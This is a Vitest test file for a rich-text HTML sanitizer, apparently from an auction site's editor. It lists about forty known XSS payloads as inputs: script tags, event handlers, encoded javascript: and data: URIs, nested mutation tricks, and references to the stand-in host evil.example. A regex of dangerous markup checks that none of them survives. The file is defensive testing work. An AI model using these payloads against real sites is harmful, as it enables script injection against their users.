import { describe, expect, it } from 'vitest';
import { sanitizeRichText } from './rich-text.js';

/** Known XSS payloads: what an attacker pastes into an operator's editor. */
const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="/files/content/202611/abcdefghijklmnopqrstuv" onerror="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<div style="behavior:url(x.htc)">x</div>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>script>alert(1)<</script>/script>',
  '<p><svg><g onload=alert(1)></g></svg></p>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<base href="https://evil.example/">',
  '<p onmouseover="alert(1)">hover</p>',
  '<a href="https://example.com" onclick="alert(1)">x</a>',
  '<img src="https://example.com/a.png" srcset="javascript:alert(1) 1x">',
  '<!--<img src=x onerror=alert(1)>-->',
  '<img """><script>alert(1)</script>">',
  '<a href="//evil.example/x">x</a>',
];

/** Anything that could run or reach out: what must never survive. */
const DANGER =
  /<\s*(script|iframe|object|embed|svg|math|style|link|meta|base|form|input|body|details)\b|\son\w+\s*=|javascript:|vbscript:|data:|expression\(|style\s*=|srcset|srcdoc/i;

describe('sanitizeRichText', () => {
  it.each(payloads)('leaves nothing that runs of %s', (payload) => {
    const clean = sanitizeRichText(payload);
    expect(clean).not.toMatch(DANGER);
    // and nothing that a browser would turn back into markup that runs
    expect(sanitizeRichText(clean)).toBe(clean);
    const decoded = clean.replace(/&#x?[0-9a-f]+;?/gi, '').replace(/&(lt|gt|quot|amp);/g, '');
    expect(decoded).not.toMatch(/\son\w+\s*=|javascript:/i);
  });

  it('drops a protocol-relative link rather than let it leave the house', () => {
    expect(sanitizeRichText('<a href="//evil.example/x">x</a>')).not.toContain('evil.example');
  });

  it('opens every link outside the app without handing it the page (rel and target are the house’s)', () => {
    const clean = sanitizeRichText('<p><a href="https://example.com/a" target="_self" rel="opener">图录</a></p>');
    expect(clean).toBe('<p><a href="https://example.com/a" target="_blank" rel="noopener noreferrer">图录</a></p>');
    expect(sanitizeRichText(clean)).toBe(clean);
  });

  it('keeps ordinary formatting: paragraphs, bold, lists, headings, quotes, pictures and links', () => {
    const html = [
      '<h3>春季拍卖预展</h3>',
      '<p>本场共 <strong>120</strong> 件拍品，<em>敬请</em><b>光临</b><i>指导</i><u>。</u><br />谢谢</p>',
      '<ul><li>瓷器</li><li>玉器</li></ul>',
      '<ol><li>预展</li><li>拍卖</li></ol>',
      '<blockquote>藏品有价，诚信无价</blockquote>',
      '<p><img src="/files/content/202611/abcdefghijklmnopqrstuv" alt="预展现场" /></p>',
      '<p><img src="https://cdn.example.com/a.webp" alt="" width="600" height="400" /></p>',
      '<p><a href="https://example.com/catalogue" title="图录">图录</a></p>',
    ].join('');
    const clean = sanitizeRichText(html);
    for (const kept of [
      '<h3>春季拍卖预展</h3>',
      '<strong>120</strong>',
      '<em>敬请</em>',
      '<b>光临</b>',
      '<i>指导</i>',
      '<u>。</u>',
      '<br />',
      '<ul><li>瓷器</li><li>玉器</li></ul>',
      '<ol><li>预展</li><li>拍卖</li></ol>',
      '<blockquote>藏品有价，诚信无价</blockquote>',
      '<img src="/files/content/202611/abcdefghijklmnopqrstuv" alt="预展现场" />',
      '<img src="https://cdn.example.com/a.webp" alt="" width="600" height="400" />',
      'href="https://example.com/catalogue"',
    ]) {
      expect(clean).toContain(kept);
    }
  });
});
